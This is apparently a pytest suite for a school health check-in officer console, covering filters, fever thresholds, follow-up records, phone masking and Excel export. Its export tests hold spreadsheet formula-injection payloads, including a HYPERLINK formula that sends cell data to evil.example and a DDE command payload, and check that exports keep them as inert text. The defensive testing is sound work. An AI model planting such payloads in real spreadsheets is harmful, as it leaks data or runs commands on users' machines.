"""The officer console without a browser: controls, views, follow-ups, export, launcher."""

from __future__ import annotations

import re
from datetime import datetime, timedelta
from pathlib import Path

import ipywidgets
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from reportkit import store
from reportkit.config import Settings
from reportkit.console import (
    Console,
    ConsoleModel,
    console_command,
    launch_console,
    school_controls,
)
from reportkit.console.views import COLUMNS
from reportkit.i18n import t as label
from reportkit.privacy import mask_phones
from tests.factories import DISTRICT_DAY as DAY
from tests.factories import DISTRICT_PEOPLE as PEOPLE
from tests.factories import DISTRICT_SCHOOLS_YAML as SCHOOLS_YAML
from tests.factories import build_district, district_checkin


@pytest.fixture
def district(tmp_path: Path) -> Settings:
    return build_district(tmp_path)


@pytest.fixture
def console(district: Settings) -> Console:
    return Console.open(str(district.db), district.params, district.outputs)


def _followup_rows(settings: Settings) -> list:
    engine = store.connect(settings.db)
    with engine.connect() as conn:
        return conn.execute(sa.select(store.followups).order_by(store.followups.c.id)).all()


def _names(console: Console) -> list[str]:
    return list(console.shown["name"])


def test_opens_on_the_latest_date_with_checkins(console: Console):
    assert console.day.value == DAY
    assert console.view.value == "attention"
    assert console.threshold.value == pytest.approx(37.3)
    assert (console.threshold.min, console.threshold.max, console.threshold.step) == (
        37.0,
        38.5,
        0.1,
    )
    assert isinstance(console.widget, ipywidgets.VBox)
    assert "rk-school" in console.school._dom_classes


def test_school_control_shows_only_that_schools_rows(console: Console):
    console.view.value = "missing"
    assert sorted(_names(console)) == sorted(["王五", "孙八", "郑一"])
    assert console.counts.value == "未报 3 人"
    before = console.table.value
    console.school.value = "a1"
    assert _names(console) == ["王五"]
    assert set(console.shown["_school_id"]) == {"a1"}
    assert console.counts.value == "未报 1 人"
    assert console.table.value != before
    assert "王五" in console.table.value
    assert "孙八" not in console.table.value


def test_district_control_narrows_the_schools(console: Console):
    assert [v for _, v in console.school.options] == ["", "a1", "a2", "b1"]
    console.view.value = "missing"
    console.district.value = "d2"
    assert [v for _, v in console.school.options] == ["", "b1"]
    assert _names(console) == ["郑一"]
    console.district.value = "d1"
    assert sorted(_names(console)) == sorted(["王五", "孙八"])


def test_class_control_lists_the_roster_and_filters(console: Console):
    assert console.klass.disabled  # all schools: no class to choose
    console.school.value = "a1"
    assert [v for _, v in console.klass.options] == ["", ("一年级", "1班"), ("一年级", "2班")]
    assert label("all_classes") == console.klass.options[0][0] == "全部班级"
    assert _names(console) == ["赵六"]  # attention: symptomatic (38.0, cough)
    console.view.value = "missing"
    console.klass.value = ("一年级", "2班")
    assert _names(console) == []
    console.klass.value = ("一年级", "1班")
    assert _names(console) == ["王五"]
    assert set(console.shown["class"]) == {"一年级 1班"}


def test_view_switch_changes_table_and_counts(console: Console):
    seen = {}
    for view, opening in [
        ("missing", "未报 3 人"),
        ("attention", "需关注 2 人"),
        ("clusters", "聚集性 0 起"),
        ("illness_absence", "因病缺勤 1 人"),
        ("data_quality", "数据问题 0 条"),
        ("followups", "跟进记录 0 条"),
        ("submissions", "学校 3 所"),
    ]:
        console.view.value = view
        assert console.counts.value.startswith(opening), (view, console.counts.value)
        seen[view] = (console.counts.value, console.table.value)
        headers = [label(c) for c in COLUMNS[view]]
        if len(console.shown):
            assert all(f"<th>{h}</th>" in console.table.value for h in headers)
    assert len({c for c, _ in seen.values()}) == len(seen)
    assert "吴十" in seen["illness_absence"][1]
    assert "第一小学" in seen["submissions"][1]
    assert "按时 3" in seen["submissions"][0]
    assert [v for _, v in console.sort_by.options] == ["", *COLUMNS["submissions"]]


def test_search_filters_by_name_and_by_id(console: Console):
    console.view.value = "missing"
    console.search.value = "孙"
    assert _names(console) == ["孙八"]
    console.search.value = "R01"
    assert _names(console) == ["郑一"]
    console.search.value = "nobody"
    assert _names(console) == []
    assert "无" in console.table.value
    console.search.value = ""
    assert len(_names(console)) == 3


def test_sort_by_a_column(console: Console):
    console.view.value = "missing"
    console.sort_by.value = "person_id"
    assert list(console.shown["person_id"]) == ["p03", "q01", "r01"]
    console.ascending.value = False
    assert list(console.shown["person_id"]) == ["r01", "q01", "p03"]


def test_threshold_slider_recomputes_fever(console: Console):
    fever = lambda: sorted(console.model.findings.fever["name"])  # noqa: E731
    assert fever() == ["周九", "赵六"]
    assert "张三" not in _names(console)
    console.threshold.value = 37.0
    assert fever() == ["周九", "张三", "赵六"]
    assert "张三" in _names(console)
    assert "发热 3" in console.counts.value
    console.threshold.value = 37.3
    assert fever() == ["周九", "赵六"]
    assert "张三" not in _names(console)
    # the rules file is unchanged; only the console's copy moved
    assert console.model.rules.fever_celsius == pytest.approx(37.3)


def test_recording_a_followup_appends_and_shows_the_latest(console: Console, district):
    console.school.value = "a1"
    assert console.person.value == ("a1", "p04")
    console.action.value = "contacted_family"
    console.note.value = "电话联系家长"
    console.officer.value = "李老师"
    console.record.click()
    rows = _followup_rows(district)
    assert len(rows) == 1
    row = rows[0]._mapping
    assert (row["school_id"], row["person_id"], row["date"]) == ("a1", "p04", DAY)
    assert (row["action"], row["note"], row["officer"]) == (
        "contacted_family",
        "电话联系家长",
        "李老师",
    )
    assert store.utcnow() - row["created_at"] < timedelta(minutes=1)
    assert "已记录" in console.message.value
    assert "已联系家长" in console.table.value
    assert console.note.value == ""

    console.action.value = "seen_by_doctor"
    console.record.click()
    assert [r.action for r in _followup_rows(district)] == ["contacted_family", "seen_by_doctor"]
    shown = console.shown.set_index("person_id")["followup"]
    assert shown["p04"].startswith("已就医 · 李老师")
    console.view.value = "followups"
    assert console.counts.value == "跟进记录 2 条"
    assert list(console.shown["action"]) == ["已就医", "已联系家长"]  # newest first


def test_phone_numbers_are_never_shown(console: Console, district):
    console.school.value = "a1"
    console.officer.value = "李老师"
    console.note.value = "家长电话13812345678，座机0431-88881234"
    console.record.click()
    assert _followup_rows(district)[0].note == "家长电话13812345678，座机0431-88881234"
    for view in ("attention", "followups"):
        console.view.value = view
        assert "13812345678" not in console.table.value
        assert "138****5678" in console.table.value
        assert "88881234" not in console.table.value
    console.export.click()
    [export] = (district.outputs / DAY.isoformat() / "exports").glob("*.xlsx")
    cells = [c for r in load_workbook(export).active.iter_rows(values_only=True) for c in r]
    assert not any("13812345678" in str(c) for c in cells)
    assert mask_phones("学号 20200101123456789 电话 15900001111") == (
        "学号 20200101123456789 电话 159****1111"
    )


def test_missing_officer_is_refused_with_a_message(console: Console, district):
    console.officer.value = "  "
    console.record.click()
    assert "请填写记录人姓名" in console.message.value
    assert "rk-error" in console.message.value
    assert _followup_rows(district) == []


def test_export_writes_the_rows_shown(console: Console, district):
    console.view.value = "missing"
    console.district.value = "d1"
    console.export.click()
    exports = list((district.outputs / DAY.isoformat() / "exports").glob("*.xlsx"))
    assert len(exports) == 1
    assert exports[0].name.startswith("missing-d1-")
    assert exports[0].name in console.links.value
    assert 'class="rk-download"' in console.links.value
    assert "data:application/vnd.openxmlformats" in console.links.value
    sheet = load_workbook(exports[0], read_only=True).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == tuple(label(c) for c in COLUMNS["missing"])
    assert [r[3] for r in rows[1:]] == list(console.shown["name"])
    assert len(rows) - 1 == len(console.shown) == 2


def test_date_control_loads_another_day(console: Console):
    console.view.value = "missing"
    console.day.value = DAY - timedelta(days=1)
    assert _names(console) == []
    console.day.value = DAY
    assert len(_names(console)) == 3


def test_stepping_dates_keeps_the_window_right(console: Console, district):
    fresh = ConsoleModel(district)
    fresh.set_date(DAY - timedelta(days=1))
    console.day.value = DAY - timedelta(days=1)
    assert console.model.findings.schools.equals(fresh.findings.schools)
    console.day.value = DAY
    fresh.set_date(DAY)
    assert console.model.findings.schools.equals(fresh.findings.schools)
    assert len(console.model._frames[DAY][0]) == len(PEOPLE) * 2 - 3


def test_reload_picks_up_new_checkins(console: Console, district):
    console.view.value = "missing"
    engine = store.connect(district.db)
    with engine.begin() as conn:
        store.upsert(conn, store.checkins, [district_checkin("a1", "p03", "王五", DAY)])
    assert "王五" in _names(console)  # in memory until reloaded
    console.reload.click()
    assert sorted(_names(console)) == sorted(["孙八", "郑一"])


def test_school_controls_are_fixed_to_the_reports_school(district: Settings):
    from reportkit.reports import SchoolReport

    report = SchoolReport.open("a2", DAY.isoformat(), "zh-CN", district.db, district.params)
    widget = school_controls(report, district.db, district.params)
    assert isinstance(widget, ipywidgets.VBox)
    fixed = Console.for_report(report, district.db, district.params)
    assert [v for _, v in fixed.school.options] == ["a2"]
    assert fixed.school.disabled
    assert fixed.day.disabled
    assert fixed.day.value == DAY
    fixed.view.value = "missing"
    assert _names(fixed) == ["孙八"]
    assert not fixed.render.disabled


def test_render_needs_one_school(console: Console):
    console.render.click()
    assert "请先选择一所学校" in console.links.value
    assert console.render.disabled  # all schools selected


def test_model_works_on_an_empty_store(tmp_path: Path):
    params = tmp_path / "params"
    params.mkdir()
    (params / "schools.yaml").write_text(SCHOOLS_YAML, encoding="utf-8")
    settings = Settings(db=f"sqlite:///{tmp_path / 'empty.db'}", params=params, outputs=tmp_path)
    store.connect(settings.db)  # reportkit init: a store with nothing in it yet
    model = ConsoleModel(settings)
    assert model.latest_date() is None
    console = Console(model, DAY)
    console.view.value = "submissions"
    assert "未报送 3" in console.counts.value


def test_model_refuses_a_store_that_is_not_there(tmp_path: Path):
    from reportkit.errors import StoreMissingError

    params = tmp_path / "params"
    params.mkdir()
    (params / "schools.yaml").write_text(SCHOOLS_YAML, encoding="utf-8")
    db = tmp_path / "typo.db"
    settings = Settings(db=f"sqlite:///{db}", params=params, outputs=tmp_path)
    with pytest.raises(StoreMissingError, match=r"typo\.db"):
        ConsoleModel(settings)
    assert not db.exists()  # nothing was created


def test_console_command_binds_loopback_with_a_token(district, monkeypatch, tmp_path):
    folder = tmp_path / "proj" / "notebooks"
    folder.mkdir(parents=True)
    (folder / "officer_console.ipynb").write_text("{}", encoding="utf-8")
    monkeypatch.setenv("REPORTKIT_NOTEBOOKS", str(folder))
    argv, env, root, url = console_command(district, False, 8899, "127.0.0.1", "tok")
    assert argv[1:3] == ["-m", "jupyterlab"]
    assert "--ServerApp.ip=127.0.0.1" in argv
    assert "--IdentityProvider.token=tok" in argv
    assert f"--ServerApp.root_dir={root}" in argv
    assert root == folder.parent.resolve()
    assert url == "http://127.0.0.1:8899/lab/tree/notebooks/officer_console.ipynb?token=tok"
    assert env["REPORTKIT_DB"] == district.db
    assert Path(env["REPORTKIT_PARAMS"]).is_absolute()
    assert Path(env["REPORTKIT_OUTPUTS"]).is_absolute()

    argv, env, root, url = console_command(district, True, 8899, "127.0.0.1", "tok")
    assert argv[1:4] == ["-m", "voila", "notebooks/officer_console.ipynb"]
    assert {"--Voila.ip=127.0.0.1", "--Voila.token=tok", "--port=8899", "--no-browser"} <= set(argv)
    assert url == "http://127.0.0.1:8899/?token=tok"

    relative = Settings(db="sqlite:///data/x.db", params=Path("params"), outputs=Path("out"))
    _, env, _, _ = console_command(relative, True, 1, "127.0.0.1", "t")
    assert env["REPORTKIT_DB"] == f"sqlite:///{Path('data/x.db').resolve()}"


def test_launch_console_generates_a_token_and_prints_the_url(
    district, monkeypatch, tmp_path, capsys
):
    folder = tmp_path / "proj" / "notebooks"
    folder.mkdir(parents=True)
    (folder / "officer_console.ipynb").write_text("{}", encoding="utf-8")
    monkeypatch.setenv("REPORTKIT_NOTEBOOKS", str(folder))
    started = {}

    class FakeServer:
        def __init__(self, argv, env, cwd):
            started.update(argv=argv, env=env, cwd=cwd)

        def wait(self, timeout=None):
            return 0

    monkeypatch.setattr("reportkit.console.launch.subprocess.Popen", FakeServer)
    assert launch_console(district, False, 0, "127.0.0.1", None, False) == 0
    token = next(a for a in started["argv"] if a.startswith("--IdentityProvider.token="))
    token = token.split("=", 1)[1]
    assert len(token) >= 30
    out = capsys.readouterr().out
    assert f"?token={token}" in out
    assert "http://127.0.0.1:" in out
    assert started["env"]["REPORTKIT_PARAMS"] == str(district.params.resolve())


@pytest.mark.slow
@pytest.mark.timeout(300)
# runner.py names papermill's output ".report.ipynb.<pid>.<thread>.tmp"; papermill warns
@pytest.mark.filterwarnings("ignore:The specified file .* does not end in one of:UserWarning")
def test_render_button_renders_only_that_schools_report(console: Console, district):
    console.school.value = "a1"
    console.render.click()
    assert "报告已生成" in console.links.value, console.links.value
    out = district.outputs / DAY.isoformat() / "a1"
    assert (out / "report.html").exists()
    assert (out / "report.pdf").exists()
    assert "report.html" in console.links.value
    assert "report.pdf" in console.links.value
    assert 'download="report.pdf"' in console.links.value
    # the district roll-up was neither run nor broken by a one-school run
    assert not (district.outputs / DAY.isoformat() / "district").exists()


@pytest.mark.slow
@pytest.mark.timeout(300)
def test_school_report_notebook_shows_the_controls_when_interactive(district, tmp_path):
    import papermill as pm

    from reportkit.layout import notebook_path

    params = {
        "school_id": "a1",
        "report_date": DAY.isoformat(),
        "db": district.db,
        "params_dir": str(district.params),
    }
    views = {}
    for interactive in (True, False):
        out = tmp_path / f"school-{interactive}.ipynb"
        nb = pm.execute_notebook(
            str(notebook_path("school")),
            str(out),
            parameters={**params, "interactive": interactive},
            kernel_name="python3",
            progress_bar=False,
            shutdown_kernel="immediate",
            cwd=str(tmp_path),
        )
        last = nb.cells[-1]
        views[interactive] = [
            o
            for o in last.outputs
            if "application/vnd.jupyter.widget-view+json" in o.get("data", {})
        ]
    assert len(views[True]) == 1
    assert views[False] == []  # the batch run never builds a widget


# --- exports: text stays text, files private, names on the officer's clock ---------------

_HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as book:
        return "".join(
            book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")
        )


@pytest.mark.parametrize("umask", [0o022, 0o077])
def test_export_writes_names_and_notes_as_text_in_a_private_file(tmp_path: Path, umask: int):
    import os
    import re
    from zoneinfo import ZoneInfo

    settings = build_district(tmp_path)
    engine = store.connect(settings.db)
    hostile_name = _HOSTILE[0]
    with engine.begin() as conn:  # a pupil whose name is a formula, who did not report
        store.upsert(
            conn,
            store.people,
            [
                {
                    "school_id": "a1",
                    "person_id": "p99",
                    "name": hostile_name,
                    "role": "student",
                    "grade": "一年级",
                    "class": "1班",
                    "status": "active",
                    "row_hash": "h",
                    "source_file": "roster.csv",
                    "updated_at": store.utcnow(),
                }
            ],
        )
    model = ConsoleModel(settings)
    model.set_date(DAY)
    for note in _HOSTILE[1:]:
        model.record("a1", "p99", "contacted_family", note, "李老师")
    old = os.umask(umask)
    try:
        paths = [model.export(view, model.view(view), "a1") for view in ("missing", "followups")]
    finally:
        os.umask(old)
    texts = set()
    for path in paths:
        assert path.stat().st_mode & 0o777 == 0o600
        assert path.parent.stat().st_mode & 0o777 == 0o700
        assert not re.search(r"<f[ >/]", _sheet_xml(path))  # no formula anywhere
        for row in load_workbook(path).active.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.quotePrefix  # stays text when the cell is edited
    assert hostile_name in texts
    assert set(_HOSTILE[1:]) <= texts
    # the file name's time is the deployment's clock (Asia/Shanghai), not the host's
    stamp = re.search(r"-(\d{6})\.xlsx$", paths[0].name).group(1)
    now = datetime.now(ZoneInfo("Asia/Shanghai"))
    shown = now.replace(hour=int(stamp[:2]), minute=int(stamp[2:4]), second=int(stamp[4:]))
    assert abs((now - shown).total_seconds()) < 120


def test_followup_times_are_shown_in_the_deployments_zone(district):
    from zoneinfo import ZoneInfo

    model = ConsoleModel(district)
    model.set_date(DAY)
    model.record("a1", "p04", "contacted_family", "", "李老师")
    before = datetime.now(ZoneInfo("Asia/Shanghai"))
    shown = model.view("followups")["created_at"].iloc[0]
    stamp = datetime.strptime(shown, "%Y-%m-%d %H:%M").replace(tzinfo=ZoneInfo("Asia/Shanghai"))
    assert abs((before - stamp).total_seconds()) < 120  # +08:00, not the host's UTC
    assert model.latest()[("a1", "p04")].endswith(shown)


# -- the day at a glance ------------------------------------------------------------


def test_the_console_opens_on_a_board_of_every_school(console: Console):
    board = console.model.board()
    assert list(board["_school_id"]) == ["a1", "a2", "b1"]  # findings first, then the rest
    a1 = board.iloc[0]
    assert (a1["submission"], a1["reported"], a1["fever"]) == ("按时", "4/5", 1)
    buttons = console.board.children[::2]
    assert [b.description for b in buttons] == ["第一小学", "第二小学", "邻县小学"]
    assert "按时" in console.board.children[1].value
    assert "4/5" in console.board.children[1].value
    svg = console.chart.value
    assert svg.startswith("<svg")
    for text in ("报告率(%)", "人数", "日期", "近14天趋势"):  # both axes labelled, in Chinese
        assert text in svg
    assert console.class_table.value == ""  # no school chosen yet


def test_clicking_a_school_opens_its_lists_and_its_classes(console: Console):
    console.view.value = "missing"
    second = console.board.children[2]
    second.click()
    assert console.school.value == "a2"
    assert console.view.value == "attention"
    assert set(console.shown["_school_id"]) == {"a2"}
    assert "周九" in console.table.value
    assert "第二小学 分班情况" in console.class_table.value
    assert "二年级 1班" in console.class_table.value
    assert console.board.children[2].button_style == "info"  # the chosen school stands out


def test_a_school_still_missing_shows_the_time_left_to_its_deadline(console: Console):
    console.day.value = DAY + timedelta(days=1)  # nothing received yet that day
    board = console.model.board(now=datetime(DAY.year, DAY.month, DAY.day + 1, 10, 0))
    assert set(board["_status"]) == {"missing"}
    assert set(board["time_left"]) == {"距截止6小时30分"}
    assert set(board["fever"]) == {"—"}  # unknown, never 0
    late = console.model.board(now=datetime(DAY.year, DAY.month, DAY.day + 1, 17, 0))
    assert set(late["time_left"]) == {"已过截止时间"}
    assert "未报送" in console.board.children[1].value


def test_trend_svg_draws_every_day_and_labels_both_axes():
    import pandas as pd

    from reportkit.console.widgets import trend_svg

    days = pd.date_range("2020-02-15", periods=14).date
    trend = pd.DataFrame(
        {"date": days, "expected": 10, "reported": 9, "fever": 1, "symptomatic": 2, "suspected": 0}
    )
    svg = trend_svg(trend, "en")
    assert svg.count("<circle") == 14
    assert svg.count("<rect") == 14 * 2 + 4  # fever and symptomatic bars, the legend
    for text in ("coverage (%)", "people", "date", "02-28"):
        assert text in svg
    assert not re.search(r"[\u4e00-\u9fff]", svg)


def test_an_export_opens_formatted(console: Console, district):
    from openpyxl import load_workbook as load

    console.view.value = "attention"
    console.export.click()
    (path,) = (district.outputs / DAY.isoformat() / "exports").glob("*.xlsx")
    sheet = load(path).active
    assert sheet.freeze_panes == "A2"  # the header stays in view
    assert all(cell.font.bold for cell in sheet[1])
    assert [c.value for c in sheet[1]] == [label(c) for c in COLUMNS["attention"]]
    widths = {c: sheet.column_dimensions[c].width for c in "ABCDEF"}
    assert widths["A"] >= 2 * len("第一小学")  # a Chinese character is two wide
    assert all(cell.data_type == "s" for cell in sheet["E"][1:])  # names: text
    link = console.links.value
    assert ">导出的表格</a>" in link  # named for what it is, the path in its title
    assert f'title="{path.resolve()}"' in link


def test_a_threshold_move_reuses_the_days_arrays_and_finds_the_same(console: Console):
    from dataclasses import fields

    import pandas as pd

    from reportkit.findings import compute_findings

    model = console.model
    prepared = model._prepared
    console.threshold.value = 37.0
    assert model._prepared is prepared  # the same day: built once
    checkins, dq, entries = model._frames[model.day]
    rules = model.rules.model_copy(update={"fever_celsius": 37.0})
    fresh = compute_findings(
        model.people, checkins, dq, model.config, rules, model.day, model.school_ids, entries
    )
    for f in fields(fresh):
        value = getattr(fresh, f.name)
        if isinstance(value, pd.DataFrame):
            pd.testing.assert_frame_equal(getattr(model.findings, f.name), value)
    assert "张三" in set(model.findings.fever["name"])  # 37.1 is fever at 37.0


def test_the_class_table_shows_a_head_teacher_beside_the_class_when_known(district: Settings):
    with store.connect(str(district.db)).begin() as conn:
        store.upsert(
            conn,
            store.class_teachers,
            [
                {
                    "school_id": "a2",
                    "grade": "二年级",
                    "class": "1班",
                    "head_teacher": "郑老师",
                    "source_file": "名册.csv",
                    "updated_at": store.utcnow(),
                }
            ],
        )
    console = Console.open(str(district.db), district.params, district.outputs)
    known = console.model.class_table("a2")
    assert list(known.columns[:2]) == ["class", "head_teacher"]
    assert known.set_index("class")["head_teacher"].to_dict() == {"二年级 1班": "郑老师"}
    console.school.value = "a2"
    assert "<th>班主任</th>" in console.class_table.value
    assert "<td>郑老师</td>" in console.class_table.value
    unknown = console.model.class_table("a1")
    assert set(unknown["head_teacher"]) == {""}  # nothing shown, not None or a dash
    console.school.value = "a1"
    assert "班主任" not in console.class_table.value  # no roster named one: no column


def test_a_refused_file_s_reason_is_in_the_console_s_language(district: Settings):
    import pandas as pd

    from reportkit.i18n import ingest_error
    from reportkit.ingest import FileReport, record_rejection

    kept = Path(district.outputs).parent / "rejected" / "空.csv"
    kept.parent.mkdir(parents=True, exist_ok=True)
    kept.write_bytes(b"")
    error = ingest_error(kept, "empty_file")
    report = FileReport(
        str(kept), None, error=str(error), refused=True, error_key=error.key, kind="logs"
    )
    engine = store.connect(str(district.db))
    record_rejection(
        engine,
        report,
        source=kept,
        kept=kept,
        school_id="a1",
        day=DAY,
        zone=district.schools().zone(),
    )
    engine.dispose()
    for lang, why in (("zh-CN", "空文件"), ("en", "empty file")):
        console = Console.open(str(district.db), district.params, district.outputs, lang=lang)
        console.view.value = "data_quality"
        shown = console.model.view("data_quality")
        assert list(shown["value"]) == [why]
        assert why in console.table.value
        assert not pd.isna(shown["reason"]).any()
